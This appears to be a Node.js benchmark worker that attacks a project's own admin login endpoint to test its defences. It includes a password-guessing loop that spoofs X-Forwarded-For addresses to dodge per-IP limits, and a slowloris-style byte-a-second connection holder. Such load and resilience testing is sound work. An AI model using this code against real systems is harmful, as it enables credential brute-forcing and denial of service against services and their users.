// Those who attack the served product in bench/attack.mjs: a process of their own, so that the measuring one waits for none of
// their work. Its first message says what to do; its last one is what was answered.
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

const loginPath = '/admin/api/admin/login'
const networkOf = (number) => `10.${number >> 16}.${(number >> 8) & 255}.${number & 255}`

/** Over each connection the next wrong password until all are judged; one refused for now comes again about a second later. */
const guess = async ({ url, wrong, connections }) => {
  const answers = {}
  let next = 0
  const attacker = async () => {
    while (next < wrong) {
      const number = next++
      const body = JSON.stringify({ email: `organiser.${number}@example.net`, password: `guess ${number}` })
      for (;;) {
        const answer = await fetch(url + loginPath, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-forwarded-for': networkOf(number) },
          body,
        })
        await answer.arrayBuffer()
        answers[answer.status] = (answers[answer.status] ?? 0) + 1
        if (answer.status !== 503) break
        await wait(500 + Math.random() * 1_000)
      }
    }
  }
  await Promise.all(Array.from({ length: connections }, attacker))
  return answers
}

/** Each sends a login a byte a second, and comes again when it is cut off. */
const holdSlowly = async ({ url, slow, seconds }) => {
  const end = performance.now() + seconds * 1_000
  const body = JSON.stringify({ email: 'organiser@example.net', password: 'guess' })
  const { hostname, port } = new URL(url)
  let cutOff = 0
  const hold = (number) =>
    new Promise((over) => {
      const socket = connect(Number(port), hostname)
      socket.on('error', () => undefined)
      socket.resume()
      socket.write(
        `POST ${loginPath} HTTP/1.1\r\nhost: localhost\r\nx-forwarded-for: ${networkOf(number)}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`,
      )
      let sent = 0
      const drip = setInterval(() => {
        if (performance.now() > end) socket.destroy()
        else socket.write(body[sent++ % body.length])
      }, 1_000)
      socket.once('close', () => {
        clearInterval(drip)
        if (performance.now() < end) cutOff++
        over()
      })
    })
  const one = async (_, number) => {
    while (performance.now() < end) await hold(number)
  }
  await Promise.all(Array.from({ length: slow }, one))
  return { cutOff }
}

process.once('message', async (given) => {
  const answers = await (given.wrong ? guess : holdSlowly)(given)
  process.send(answers, () => process.disconnect())
})
